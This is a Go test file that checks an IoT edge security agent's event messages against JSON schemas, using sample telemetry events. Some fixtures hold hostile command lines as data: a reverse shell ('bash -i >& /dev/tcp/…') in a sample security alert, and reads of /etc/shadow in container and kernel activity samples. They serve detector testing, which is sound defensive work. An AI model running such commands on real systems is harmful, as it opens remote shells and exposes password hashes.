package schemas

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/edgesec/edgesec/event"
)

var (
	validatorOnce sync.Once
	validator     *Validator
	validatorErr  error
)

func newValidator(t testing.TB) *Validator {
	t.Helper()
	validatorOnce.Do(func() { validator, validatorErr = NewValidator() })
	if validatorErr != nil {
		t.Fatalf("NewValidator: %v", validatorErr)
	}
	return validator
}

var when = time.Date(2026, 3, 14, 15, 9, 26, 535_000_000, time.UTC)

func intp(i int) *int { return &i }

// sampleEvents returns one realistic event of every catalogued name.
func sampleEvents() []event.Event {
	cid := "4f66ad9a0b2b3a5c2f0d8a1e5e3b1f7f9c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f"
	return []event.Event{
		event.Must(event.ProcessCreate, when, &event.ProcessCreatePayload{
			Executable: "/usr/bin/curl", ProcessID: 4242, ParentProcessID: 1, UserID: "0", UserName: "root",
			CommandLine:  `curl -s "http://10.0.0.5/x?a=1&b=<2>"`,
			ExtraDetails: event.ExtraDetails{"ContainerId": cid, "ModuleName": "tempSensor"},
		}, &event.ProcessCreatePayload{Executable: "/bin/sh", ProcessID: 0, ParentProcessID: 0, UserID: "1000", CommandLine: "sh -c id",
			ExtraDetails: event.ExtraDetails{"HitCount": "3", "StartTimeUtc": "2026-03-14T15:09:00.000Z"}}),
		event.Must(event.ProcessTerminate, when, &event.ProcessTerminatePayload{Executable: "/usr/bin/curl", ProcessID: 4242, ExitStatus: 7}),
		event.Must(event.ConnectionCreate, when,
			&event.ConnectionCreatePayload{RemoteAddress: "20.42.65.92", RemotePort: "443", LocalAddress: "192.168.1.20", LocalPort: "51234",
				Direction: event.DirectionOut, Protocol: "TCP", ProcessID: 311, UserID: "0", Executable: "/usr/bin/dotnet", CommandLine: "dotnet Microsoft.Azure.Devices.Edge.Hub.Service.dll"},
			&event.ConnectionCreatePayload{RemoteAddress: "fe80::1c2a:3bff:fe4d:5e6f", RemotePort: "40022", LocalAddress: "::1", LocalPort: "22",
				Direction: event.DirectionIn, Protocol: "TCP", ProcessID: 812, Executable: "/usr/sbin/sshd"},
			&event.ConnectionCreatePayload{RemoteAddress: "::ffff:10.1.2.3", RemotePort: "53", Direction: event.DirectionOut, Protocol: "UDP", Executable: "/usr/lib/systemd/systemd-resolved"}),
		event.Must(event.Login, when,
			&event.LoginPayload{ProcessID: 812, UserName: "admin", Operation: "sshd", Executable: "/usr/sbin/sshd", RemoteAddress: "203.0.113.7", RemotePort: "50123", LocalPort: "22", Result: event.LoginFail},
			&event.LoginPayload{ProcessID: 900, UserID: "1000", UserName: "pi", Operation: "Login", Executable: "/bin/login", Result: event.LoginSuccess}),
		event.Must(event.ListeningPorts, when,
			&event.ListeningPortsPayload{Protocol: "TCP", LocalAddress: "0.0.0.0", LocalPort: "22", ExtraDetails: event.ExtraDetails{"Family": "IPv4", "ProcessId": "812", "Executable": "/usr/sbin/sshd"}},
			&event.ListeningPortsPayload{Protocol: "TCP", LocalAddress: "::", LocalPort: "8883", RemoteAddress: "::", RemotePort: "*"},
			&event.ListeningPortsPayload{Protocol: "UDP", LocalPort: "5353"}),
		event.Must(event.LocalUsers, when,
			&event.LocalUsersPayload{UserName: "root", UserID: "0", GroupIDs: "0", GroupNames: "root"},
			&event.LocalUsersPayload{UserName: "pi", UserID: "1000", GroupIDs: "1000;27;44", GroupNames: "pi;sudo;video", ExtraDetails: event.ExtraDetails{"Shell": "/bin/bash"}}),
		event.Must(event.FirewallConfiguration, when,
			&event.FirewallRulePayload{Priority: 0, Direction: event.DirectionIn, ChainName: "INPUT", Enabled: true, Action: event.ActionAllow,
				SourceAddress: "10.0.0.0/8", DestinationPort: "22", Protocol: "TCP"},
			&event.FirewallRulePayload{Priority: 1, ChainName: "INPUT", Enabled: true, Action: event.ActionDeny, ExtraDetails: event.ExtraDetails{"Policy": "true"}},
			&event.FirewallRulePayload{Priority: 2, Direction: event.DirectionOut, ChainName: "OUTPUT", Enabled: false, Action: event.ActionOther,
				SourcePort: "1024-65535", DestinationAddress: "Local subnet", ExtraDetails: event.ExtraDetails{"Target": "LOG"}}),
		event.Must(event.SystemInformation, when, &event.SystemInformationPayload{
			OSName: "Debian GNU/Linux", OSVersion: "12 (bookworm)", OSVendor: "Debian", OSArchitecture: "x86_64", HostName: "edge-01",
			BIOSVersion: "1.16.2", BootDevice: "/dev/sda1", TotalPhysicalMemoryInKB: 4030000, FreePhysicalMemoryInKB: 2100000,
			TotalVirtualMemoryInKB: 5078000, FreeVirtualMemoryInKB: 3000000, ExtraDetails: event.ExtraDetails{"KernelVersion": "6.1.0-18-amd64"}}),
		event.Must(event.OSBaseline, when,
			&event.OSBaselinePayload{CceID: "CCE-14011-3", Description: "Ensure SSH root login is disabled", Result: event.BaselineFail, Severity: event.SeverityCritical},
			&event.OSBaselinePayload{CceID: "CCE-3561-8", Description: "Ensure auditd is installed", Result: event.BaselineErr, Error: "cannot read /etc/audit", Severity: event.SeverityWarning}),
		event.Must(event.ConnectedHardware, when, &event.ConnectedHardwarePayload{HardwareCategory: "USB", HardwareSubCategory: "Serial", HardwareName: "FTDI FT232R USB UART"}),
		event.Must(event.DiagnosticEvent, when,
			&event.DiagnosticPayload{CorrelationID: "9c647395-b913-4997-a732-a7fe7303b649", Severity: event.DiagWarning, Message: "cannot read /proc/1/exe: permission denied", ProcessID: 1234, ThreadID: 1234},
			&event.DiagnosticPayload{Severity: event.DiagError, Message: "transport: connection refused", ProcessID: 1234, ThreadID: 1240}),
		event.Must(event.ConfigurationError, when, &event.ConfigurationErrorPayload{ConfigurationName: "maxMessageSizeInBytes", ErrorType: event.NotOptimal,
			UsedConfiguration: "204800", Message: "maxMessageSizeInBytes should be a multiple of 4096"}),
		event.Must(event.DroppedEventsStatistics, when,
			&event.DroppedEventsPayload{Queue: "High", CollectedEvents: 1200, DroppedEvents: 0},
			&event.DroppedEventsPayload{Queue: "Low", CollectedEvents: 90000, DroppedEvents: 112}),
		event.Must(event.MessageStatistics, when, &event.MessageStatisticsPayload{MessagesSent: 42, MessagesUnder4KB: 3, TotalFailed: 1}),
		event.Must(event.ContainerInventory, when,
			&event.ContainerInventoryPayload{
				ContainerID: cid, Name: "tempSensor", ModuleName: "tempSensor", Runtime: "moby",
				Image: "mcr.microsoft.com/azureiotedge-simulated-temperature-sensor:1.5", ImageDigest: "sha256:0e5e6b2c9e6a1c3d5f7a9b1c3d5e7f9a1b3c5d7e9f1a3b5c7d9e1f3a5b7c9d1e",
				State: "running", StartedAt: "2026-03-14T15:00:01.123456789Z", FinishedAt: "0001-01-01T00:00:00Z",
				Privileged: true, NetworkMode: "host", PidMode: "host", IpcMode: "private", User: "root",
				CapAdd: []string{"SYS_ADMIN", "NET_ADMIN"}, CapDrop: []string{"MKNOD"},
				Mounts: []event.Mount{
					{Type: "bind", Source: "/var/run/docker.sock", Destination: "/var/run/docker.sock", Risk: "DockerSocket"},
					{Type: "volume", Source: "tempsensor-data", Destination: "/data", ReadOnly: true},
				},
				Devices:        []string{"/dev/ttyUSB0:/dev/ttyUSB0:rwm"},
				SeccompProfile: "unconfined", AppArmorProfile: "unconfined", RestartPolicy: "always",
				MemoryLimit: 256 << 20, NanoCPUs: 500_000_000,
				Labels:       map[string]string{"net.azure-devices.edge.owner": "Microsoft.Azure.Devices.Edge.Agent"},
				ExtraDetails: event.ExtraDetails{"CreatedBy": "edgeAgent"},
			},
			&event.ContainerInventoryPayload{ContainerID: "k8s-abc", Name: "nginx", Runtime: "containerd", Namespace: "default",
				Image: "docker.io/library/nginx:1.25", State: "created", ReadOnlyRootfs: true, NoNewPrivileges: true}),
		event.Must(event.ContainerActivity, when,
			&event.ContainerActivityPayload{Action: "die", ContainerID: cid, ContainerName: "tempSensor", ModuleName: "tempSensor",
				Image: "mcr.microsoft.com/azureiotedge-simulated-temperature-sensor:1.5", Runtime: "moby", ExitCode: intp(137)},
			&event.ContainerActivityPayload{Action: "exec_start", ContainerID: cid, ContainerName: "tempSensor", Runtime: "moby", Command: "sh -c 'cat /etc/shadow'"},
			&event.ContainerActivityPayload{Action: "pull", Image: "docker.io/library/alpine:3.19", Runtime: "containerd", ExtraDetails: event.ExtraDetails{"Namespace": "default"}}),
		event.Must(event.DeploymentRecommendation, when,
			&event.DeploymentRecommendationPayload{RuleID: "EDGE001", Severity: event.FindingCritical, Title: "Container runs privileged",
				Module: "tempSensor", Pointer: "/modulesContent/$edgeAgent/properties.desired/modules/tempSensor/settings/createOptions/HostConfig/Privileged",
				Evidence: `"Privileged": true`, Remediation: "Remove HostConfig.Privileged; add only the capabilities the module needs.", Source: "deployment.json"},
			&event.DeploymentRecommendationPayload{RuleID: "EDGE020", Severity: event.FindingLow, Title: "Catch-all route to $upstream",
				Pointer: "/modulesContent/$edgeHub/properties.desired/routes/all~1route", Source: "runtime"}),
		event.Must(event.KernelActivity, when,
			&event.KernelActivityPayload{Action: event.ActivityOpenRead, Path: "/etc/shadow", Operations: "read", ProcessID: 4242,
				ParentProcessID: 4200, Executable: "/usr/bin/cat", CommandLine: "cat /etc/shadow", UserID: "0", UserName: "root",
				ExtraDetails: event.ExtraDetails{"ContainerId": cid, "ModuleName": "tempSensor", "Source": "ebpf"}},
			&event.KernelActivityPayload{Action: event.ActivityPtrace, TargetProcessID: 1, ProcessID: 4243, ParentProcessID: 4200,
				Executable: "/usr/bin/gdb", UserID: "0"},
			&event.KernelActivityPayload{Action: event.ActivityRename, Path: "/tmp/x", TargetPath: "/usr/bin/ls", Operations: "delete",
				ProcessID: 4244, ParentProcessID: 1, Executable: "/usr/bin/mv", UserID: "1000"}),
		event.Must(event.Heartbeat, when, &event.HeartbeatPayload{
			AgentVersion: "0.1.0", StartTimeUTC: "2026-03-14T14:09:26Z", UptimeSeconds: 3600, ConfigurationVersion: 12,
			Collectors: []event.CollectorHealth{
				{Name: "ProcessCreate", State: "running", Events: 1234},
				{Name: "FirewallConfiguration", State: "degraded", LastError: "nft: permission denied", Events: 2},
			}}),
		event.Must(event.SecurityAlert, when,
			&event.SecurityAlertPayload{AlertType: "IoT_ReverseShell", DisplayName: "Reverse shells", Severity: event.AlertHigh,
				Description: "bash redirected its input and output to 198.51.100.7:4444", Remediation: "Kill the process and investigate its parent.",
				TriggerEventIDs: []string{"9c647395-b913-4997-a732-a7fe7303b649"}, TriggerEventNames: []string{event.ProcessCreate},
				Executable: "/usr/bin/bash", CommandLine: "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", UserID: "0", UserName: "root",
				ProcessID: 4242, ParentProcessID: 4200, ParentExecutable: "/usr/bin/sh", ContainerID: cid, ModuleName: "tempSensor",
				Image: "sensor:1.5", RemoteAddress: "198.51.100.7", RemotePort: "4444", LocalPort: "51234", Count: 3,
				ExtraDetails: event.ExtraDetails{"Outcome": "executed"}},
			&event.SecurityAlertPayload{AlertType: "Custom_ConnectionToIpNotAllowed", DisplayName: "Outbound connection created to an IP that isn't allowed",
				Severity: event.AlertLow, Description: "curl connected to 2001:db8::7", TriggerEventIDs: []string{}, RemoteAddress: "2001:db8::7"}),
		event.Must(event.SecurityRecommendation, when,
			&event.SecurityRecommendationPayload{RecommendationType: "IoT_OpenPorts", Name: "Open ports on device", Severity: event.AlertMedium,
				State: event.RecommendationActive, Entity: "TCP 0.0.0.0:8888", Evidence: "/usr/bin/nc (pid 812, uid 0) listens on 0.0.0.0:8888",
				Remediation: "Close the port or restrict it with the firewall.", FirstSeenUTC: "2026-03-14T15:09:26.535Z"},
			&event.SecurityRecommendationPayload{RecommendationType: "IoT_Baseline", Name: "Operating system baseline validation failure",
				Severity: event.AlertMedium, State: event.RecommendationResolved, Entity: "OSBaseline"}),
	}
}

func TestSamplesFromOfficialTests(t *testing.T) {
	v := newValidator(t)
	b, err := fs.ReadFile(FS(), "asc/tests/samples.json")
	if err != nil {
		t.Fatal(err)
	}
	var samples struct {
		Valid   []json.RawMessage `json:"valid"`
		Invalid []json.RawMessage `json:"invalid"`
	}
	if err := json.Unmarshal(b, &samples); err != nil {
		t.Fatal(err)
	}
	if len(samples.Valid) == 0 || len(samples.Invalid) == 0 {
		t.Fatalf("samples.json: %d valid, %d invalid samples", len(samples.Valid), len(samples.Invalid))
	}
	for i, m := range samples.Valid {
		if err := v.ValidateMessage(m); err != nil {
			t.Errorf("valid[%d]: %v", i, err)
		}
	}
	for i, m := range samples.Invalid {
		if err := v.ValidateMessage(m); err == nil {
			t.Errorf("invalid[%d] validated: %s", i, m)
		}
	}
}

// TestOfficialTestSchema checks the samples the official way too: the
// official test.json validated against samples.json with the same compiler
// setup.
func TestOfficialTestSchema(t *testing.T) {
	dt, err := dateTimeFormat()
	if err != nil {
		t.Fatal(err)
	}
	c := newCompiler()
	c.RegisterFormat(dt)
	for _, dir := range []string{"asc/schemas", "asc/tests"} {
		ents, err := fs.ReadDir(FS(), dir)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range ents {
			f, err := FS().Open(dir + "/" + e.Name())
			if err != nil {
				t.Fatal(err)
			}
			doc, err := jsonschema.UnmarshalJSON(f)
			f.Close()
			if err != nil {
				t.Fatal(err)
			}
			// test.json refers to messageRoot.json as a sibling.
			if err := c.AddResource("file:///x/"+e.Name(), doc); err != nil {
				t.Fatal(err)
			}
		}
	}
	sch, err := c.Compile("file:///x/test.json")
	if err != nil {
		t.Fatal(err)
	}
	f, err := FS().Open("asc/tests/samples.json")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	doc, err := jsonschema.UnmarshalJSON(f)
	if err != nil {
		t.Fatal(err)
	}
	if err := sch.Validate(doc); err != nil {
		t.Fatal(err)
	}
}

func TestEveryCataloguedEventValidates(t *testing.T) {
	v := newValidator(t)
	seen := map[string]bool{}
	for _, ev := range sampleEvents() {
		if ev.Name == "" {
			t.Fatal("sample event with empty name (not in catalogue)")
		}
		seen[ev.Name] = true
		t.Run(ev.Name, func(t *testing.T) {
			if err := v.ValidateEvent(ev); err != nil {
				t.Errorf("%v\n%s", err, ev.AppendJSON(nil))
			}
		})
	}
	for _, in := range event.Catalogue() {
		if !seen[in.Name] {
			t.Errorf("no sample event for catalogued name %s", in.Name)
		}
	}
}

// TestASCOnlyMessageUsesOfficialRoot checks that messages of ASC events only
// validate against the official root itself, and that extension events are
// not accepted by it.
func TestRootSelection(t *testing.T) {
	v := newValidator(t)
	var asc, all []event.Event
	for _, ev := range sampleEvents() {
		info, _ := event.Lookup(ev.Name)
		if !info.Extension {
			asc = append(asc, ev)
		}
		all = append(all, ev)
	}
	decode := func(env event.Envelope) any {
		doc, err := jsonschema.UnmarshalJSON(strings.NewReader(string(env.AppendJSON(nil))))
		if err != nil {
			t.Fatal(err)
		}
		return doc
	}
	ascMsg := event.Envelope{AgentVersion: "1.2.3", AgentID: event.NewID(), Events: asc}
	if err := v.asc.Validate(decode(ascMsg)); err != nil {
		t.Errorf("ASC events against the official root: %v", err)
	}
	allMsg := event.Envelope{AgentVersion: "1.2.3", AgentID: event.NewID(), Events: all}
	if err := v.ValidateMessage(allMsg.AppendJSON(nil)); err != nil {
		t.Errorf("mixed message: %v", err)
	}
	if err := v.asc.Validate(decode(allMsg)); err == nil {
		t.Error("the official root accepted extension events")
	}
	if err := v.edgesec.Validate(decode(ascMsg)); err != nil {
		t.Errorf("the edgesec root rejected ASC events: %v", err)
	}
	for _, ev := range all {
		info, _ := event.Lookup(ev.Name)
		err := v.asc.Validate(decode(event.Envelope{AgentVersion: "1", AgentID: TestAgentID, Events: []event.Event{ev}}))
		if info.Extension && err == nil {
			t.Errorf("official root accepted extension event %s", ev.Name)
		}
	}
}

func TestEmptyPeriodicSnapshotsValidate(t *testing.T) {
	v := newValidator(t)
	for _, in := range event.Catalogue() {
		ev := event.Must(in.Name, when)
		switch in.Category {
		case event.Periodic:
			if !ev.IsEmpty() || !strings.Contains(string(ev.AppendJSON(nil)), `"IsEmpty":true`) {
				t.Fatalf("%s: not encoded as empty", in.Name)
			}
			if err := v.ValidateEvent(ev); err != nil {
				t.Errorf("empty %s snapshot: %v", in.Name, err)
			}
		case event.Triggered:
			if err := v.ValidateEvent(ev); err == nil {
				t.Errorf("Triggered %s with no payload validated", in.Name)
			}
		}
	}
}

// mutate encodes ev as a message, applies f to the first payload item and
// returns the message body.
func mutate(t *testing.T, ev event.Event, f func(item map[string]any)) []byte {
	t.Helper()
	env := event.Envelope{AgentVersion: "test", AgentID: TestAgentID, Events: []event.Event{ev}}
	var m map[string]any
	if err := json.Unmarshal(env.AppendJSON(nil), &m); err != nil {
		t.Fatal(err)
	}
	item := m["Events"].([]any)[0].(map[string]any)["Payload"].([]any)[0].(map[string]any)
	f(item)
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func sample(t *testing.T, name string) event.Event {
	t.Helper()
	for _, ev := range sampleEvents() {
		if ev.Name == name {
			return ev
		}
	}
	t.Fatalf("no sample %s", name)
	return event.Event{}
}

func TestInvalidEventsFail(t *testing.T) {
	v := newValidator(t)
	del := func(k string) func(map[string]any) { return func(m map[string]any) { delete(m, k) } }
	set := func(k string, val any) func(map[string]any) { return func(m map[string]any) { m[k] = val } }
	cases := []struct {
		name  string
		event string
		f     func(map[string]any)
	}{
		{"port as number", event.ListeningPorts, set("LocalPort", 22)},
		{"remote port as number", event.ConnectionCreate, set("RemotePort", 443)},
		{"process id as string", event.ProcessCreate, set("ProcessId", "4242")},
		{"extra details with number", event.ProcessCreate, set("ExtraDetails", map[string]any{"HitCount": 3})},
		{"unknown field", event.ProcessTerminate, set("Signal", "KILL")},
		{"bad direction", event.ConnectionCreate, set("Direction", "Inbound")},
		{"missing Executable", event.ProcessCreate, del("Executable")},
		{"missing UserId", event.ProcessCreate, del("UserId")},
		{"missing ExitStatus", event.ProcessTerminate, del("ExitStatus")},
		{"missing RemoteAddress", event.ConnectionCreate, del("RemoteAddress")},
		{"missing LocalPort", event.ListeningPorts, del("LocalPort")},
		{"login without user", event.Login, func(m map[string]any) { delete(m, "UserId"); delete(m, "UserName") }},
		{"missing Error", event.OSBaseline, del("Error")},
		{"bad queue", event.DroppedEventsStatistics, set("Queue", "Operational")},
		{"inventory missing Runtime", event.ContainerInventory, del("Runtime")},
		{"inventory missing Mounts", event.ContainerInventory, del("Mounts")},
		{"inventory bad runtime", event.ContainerInventory, set("Runtime", "podman")},
		{"inventory privileged as string", event.ContainerInventory, set("Privileged", "true")},
		{"inventory bad StartedAt", event.ContainerInventory, set("StartedAt", "yesterday")},
		{"inventory label not string", event.ContainerInventory, set("Labels", map[string]any{"a": 1})},
		{"inventory mount unknown field", event.ContainerInventory, func(m map[string]any) {
			m["Mounts"].([]any)[0].(map[string]any)["Propagation"] = "rprivate"
		}},
		{"activity missing Action", event.ContainerActivity, del("Action")},
		{"activity exit code string", event.ContainerActivity, set("ExitCode", "137")},
		{"recommendation bad severity", event.DeploymentRecommendation, set("Severity", "Info")},
		{"recommendation bad pointer", event.DeploymentRecommendation, set("Pointer", "modules/x")},
		{"recommendation missing RuleId", event.DeploymentRecommendation, del("RuleId")},
		{"alert bad severity", event.SecurityAlert, set("Severity", "Critical")},
		{"alert missing AlertType", event.SecurityAlert, del("AlertType")},
		{"alert empty description", event.SecurityAlert, set("Description", "")},
		{"alert bad trigger id", event.SecurityAlert, set("TriggerEventIds", []any{"not-a-guid"})},
		{"alert bad remote address", event.SecurityAlert, set("RemoteAddress", "evil.example")},
		{"alert zero count", event.SecurityAlert, set("Count", 0)},
		{"alert pid as string", event.SecurityAlert, set("ProcessId", "4242")},
		{"recommendation bad state", event.SecurityRecommendation, set("State", "Open")},
		{"recommendation missing Entity", event.SecurityRecommendation, del("Entity")},
		{"recommendation bad first seen", event.SecurityRecommendation, set("FirstSeenUtc", "yesterday")},
		{"recommendation unknown field", event.SecurityRecommendation, set("Owner", "nc")},
		{"kernel activity unknown action", event.KernelActivity, set("Action", "open")},
		{"kernel activity missing Executable", event.KernelActivity, del("Executable")},
		{"kernel activity bad operations", event.KernelActivity, set("Operations", "read|")},
		{"heartbeat negative uptime", event.Heartbeat, set("UptimeSeconds", -1)},
		{"heartbeat missing Collectors", event.Heartbeat, del("Collectors")},
		{"heartbeat bad collector state", event.Heartbeat, func(m map[string]any) {
			m["Collectors"].([]any)[0].(map[string]any)["State"] = "zombie"
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			body := mutate(t, sample(t, c.event), c.f)
			if err := v.ValidateMessage(body); err == nil {
				t.Errorf("validated: %s", body)
			}
		})
	}
}

func TestBadIPFails(t *testing.T) {
	v := newValidator(t)
	for _, ip := range []string{"999.1.1.1", "10.0.0", "010.0.0.1", "fe80::1%eth0", "localhost", "", "10.0.0.1:80"} {
		ev := event.Must(event.ConnectionCreate, when, &event.ConnectionCreatePayload{
			RemoteAddress: ip, RemotePort: "443", Direction: event.DirectionOut, Protocol: "TCP", ProcessID: 1, Executable: "/bin/x"})
		if err := v.ValidateEvent(ev); err == nil {
			t.Errorf("RemoteAddress %q validated", ip)
		}
	}
	for _, ip := range []string{"10.0.0.1", "::", "2001:db8::1", "::ffff:192.0.2.1"} {
		ev := event.Must(event.ListeningPorts, when, &event.ListeningPortsPayload{LocalAddress: ip, LocalPort: "80", Protocol: "TCP"})
		if err := v.ValidateEvent(ev); err != nil {
			t.Errorf("LocalAddress %q: %v", ip, err)
		}
	}
}

func TestDateTime(t *testing.T) {
	dt, err := dateTimeFormat()
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"2018-08-10T11:01:21.000+01:00", "2018-08-10T11:01:21.000Z", "2018-10-09 16:22:50Z", "2026-03-14T15:09:26.123456789-07:00"} {
		if err := dt.Validate(s); err != nil {
			t.Errorf("%q: %v", s, err)
		}
	}
	for _, s := range []string{"2018-10-09X16:22:50Z", "2018-13-09T16:22:50Z", "2018-10-09T16:22:50", "2018-10-09  16:22:50Z", "2018-10-09T25:00:00Z", "yesterday", ""} {
		if err := dt.Validate(s); err == nil {
			t.Errorf("%q validated", s)
		}
	}
	if err := dt.Validate(42); err != nil {
		t.Errorf("non-string: %v", err)
	}
}

func TestMessageErrors(t *testing.T) {
	v := newValidator(t)
	ev := sample(t, event.ProcessCreate)
	good := event.Envelope{AgentVersion: "1.0.0", AgentID: event.NewID(), Events: []event.Event{ev}}
	if err := v.ValidateMessage(good.AppendJSON(nil)); err != nil {
		t.Fatal(err)
	}
	bad := map[string]event.Envelope{
		"no events":    {AgentVersion: "1.0.0", AgentID: event.NewID()},
		"bad agent id": {AgentVersion: "1.0.0", AgentID: "not-a-guid", Events: []event.Event{ev}},
		"unknown name": {AgentVersion: "1.0.0", AgentID: event.NewID(), Events: []event.Event{
			event.NewCustom("ModbusWrite", event.Triggered, event.Security, when, event.Object{"Register": "40001"})}},
		"wrong category": {AgentVersion: "1.0.0", AgentID: event.NewID(), Events: []event.Event{
			{ID: event.NewID(), Time: when, Name: event.ProcessCreate, Category: event.Periodic, Type: event.Security, Payload: ev.Payload}}},
		"bad event id": {AgentVersion: "1.0.0", AgentID: event.NewID(), Events: []event.Event{
			{ID: "1", Time: when, Name: ev.Name, Category: ev.Category, Type: ev.Type, Payload: ev.Payload}}},
	}
	for name, env := range bad {
		if err := v.ValidateMessage(env.AppendJSON(nil)); err == nil {
			t.Errorf("%s: validated", name)
		}
	}
	err := v.ValidateMessage([]byte(`{"AgentVersion":`))
	if err == nil || !strings.Contains(err.Error(), "JSON") {
		t.Errorf("truncated JSON: %v", err)
	}
	err = v.ValidateEvent(event.Event{ID: event.NewID(), Time: when, Name: event.ProcessCreate, Category: event.Triggered, Type: event.Security})
	var ve *jsonschema.ValidationError
	if !errors.As(err, &ve) {
		t.Errorf("error does not wrap a *jsonschema.ValidationError: %v", err)
	}
}

func TestConcurrentUse(t *testing.T) {
	v := newValidator(t)
	evs := sampleEvents()
	var wg sync.WaitGroup
	errs := make(chan error, 8*len(evs))
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for _, ev := range evs {
				if err := v.ValidateEvent(ev); err != nil {
					errs <- err
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

func TestFS(t *testing.T) {
	for _, p := range []string{"asc/LICENSE.md", "asc/SOURCE.md", ASCRoot, EdgesecRoot, "asc/tests/samples.json", "asc/tests/test.json",
		"edgesec/messageEventSecurityContainerInventory_v1_0.json", "edgesec/messageEventSecurityContainerActivity_v1_0.json",
		"edgesec/messageEventSecurityDeploymentRecommendation_v1_0.json", "edgesec/messageOperationalEventHeartbeat_v1_0.json",
		"edgesec/messageEventSecuritySecurityAlert_v1_0.json", "edgesec/messageEventSecuritySecurityRecommendation_v1_0.json",
		"edgesec/messageEventSecurityKernelActivity_v1_0.json",
		"edgesec/edgesecMessage_v1_0.json"} {
		if _, err := fs.Stat(FS(), p); err != nil {
			t.Error(err)
		}
	}
	// The official files are unchanged: byte-identical to the published
	// files, whose SHA-256 sums testdata/asc.sha256 records (taken when they
	// were embedded, as SOURCE.md describes).
	sums, err := os.ReadFile("testdata/asc.sha256")
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{}
	for _, l := range strings.Split(strings.TrimSpace(string(sums)), "\n") {
		sum, name, ok := strings.Cut(l, "  ")
		if !ok {
			t.Fatalf("testdata/asc.sha256: bad line %q", l)
		}
		want["asc/"+name] = sum
	}
	ents, _ := fs.Glob(FS(), "asc/*/*.json")
	if len(ents) != len(want) {
		t.Errorf("%d official files embedded, %d recorded", len(ents), len(want))
	}
	for _, p := range ents {
		got, _ := fs.ReadFile(FS(), p)
		sum := sha256.Sum256(got)
		if hex.EncodeToString(sum[:]) != want[p] {
			t.Errorf("%s differs from the official file", p)
		}
	}
}

// TestSchemasOnDisk checks that the tree works as shipped: compiled from
// the files on disk with a plain file loader, the relative references of the
// edgesec schemas resolve.
func TestSchemasOnDisk(t *testing.T) {
	dir, err := filepath.Abs(".")
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	c.DefaultDraft(jsonschema.Draft7)
	c.AssertFormat()
	sch, err := c.Compile(filepath.Join(dir, EdgesecRoot))
	if err != nil {
		t.Fatal(err)
	}
	env := event.Envelope{AgentVersion: "1", AgentID: TestAgentID, Events: sampleEvents()}
	doc, err := jsonschema.UnmarshalJSON(strings.NewReader(string(env.AppendJSON(nil))))
	if err != nil {
		t.Fatal(err)
	}
	if err := sch.Validate(doc); err != nil {
		t.Error(err)
	}
}

func ExampleValidator_ValidateEvent() {
	v, err := NewValidator()
	if err != nil {
		fmt.Println(err)
		return
	}
	ev := event.Must(event.ListeningPorts, time.Now(),
		&event.ListeningPortsPayload{Protocol: "TCP", LocalAddress: "0.0.0.0", LocalPort: "22"})
	fmt.Println(v.ValidateEvent(ev))

	bad := event.Must(event.ListeningPorts, time.Now(),
		&event.ListeningPortsPayload{Protocol: "TCP", LocalAddress: "localhost", LocalPort: "22"})
	fmt.Println(v.ValidateEvent(bad) != nil)
	// Output:
	// <nil>
	// true
}

func TestVendorEventsValidateAgainstTheirPayloadSchema(t *testing.T) {
	schema := []byte(`{"$schema":"https://json-schema.org/draft/2020-12/schema","type":"object",
		"properties":{"Path":{"type":"string"},"Sha256":{"type":"string","pattern":"^[0-9a-f]{64}$"},"ExtraDetails":{"type":"object"}},
		"required":["Path","Sha256"],"additionalProperties":false}`)
	fh := event.Info{Name: "FileHashChanged", Category: event.Triggered, Type: event.Security, DefaultPriority: event.High, PayloadSchema: schema}
	free := event.Info{Name: "ModbusWrite", Category: event.Triggered, Type: event.Security}
	v, err := NewValidatorFor(fh, free, event.Info{Name: event.Login})
	if err != nil {
		t.Fatal(err)
	}
	good := event.NewCustom("FileHashChanged", event.Triggered, event.Security, time.Now(),
		event.Object{"Path": "/etc/app.conf", "Sha256": strings.Repeat("ab", 32)})
	var evs []event.Event
	for i := range 84 {
		evs = append(evs, event.Must(event.ProcessCreate, time.Now(), &event.ProcessCreatePayload{Executable: "/bin/true", CommandLine: "true", ProcessID: i + 1, UserID: "0"}))
	}
	env := event.Envelope{AgentVersion: "1", AgentID: TestAgentID, Events: append(evs, good,
		event.NewCustom("ModbusWrite", event.Triggered, event.Security, time.Now(), event.Object{"Register": "40001"}))}
	if err := v.ValidateMessage(env.AppendJSON(nil)); err != nil {
		t.Fatalf("a message with declared vendor events must validate: %v", err)
	}
	bad := []event.Event{
		event.NewCustom("FileHashChanged", event.Triggered, event.Security, time.Now(), event.Object{"Path": "/etc/app.conf", "Sha256": "nope"}),
		event.NewCustom("FileHashChanged", event.Periodic, event.Security, time.Now(), event.Object{"Path": "/etc/app.conf", "Sha256": strings.Repeat("ab", 32)}),
		event.NewCustom("Undeclared", event.Triggered, event.Security, time.Now(), event.Object{"X": "1"}),
	}
	for _, ev := range bad {
		if err := v.ValidateEvent(ev); err == nil {
			t.Errorf("%s (%s) validated", ev.Name, ev.Category)
		}
	}
	plain, err := NewValidator()
	if err != nil {
		t.Fatal(err)
	}
	if err := plain.ValidateEvent(good); err == nil {
		t.Error("a validator without the declaration accepted a vendor event")
	}
	if _, err := NewValidatorFor(event.Info{Name: "Broken", Category: event.Triggered, Type: event.Security, PayloadSchema: []byte(`{`)}); err == nil {
		t.Error("a payload schema that is not JSON was accepted")
	}
}
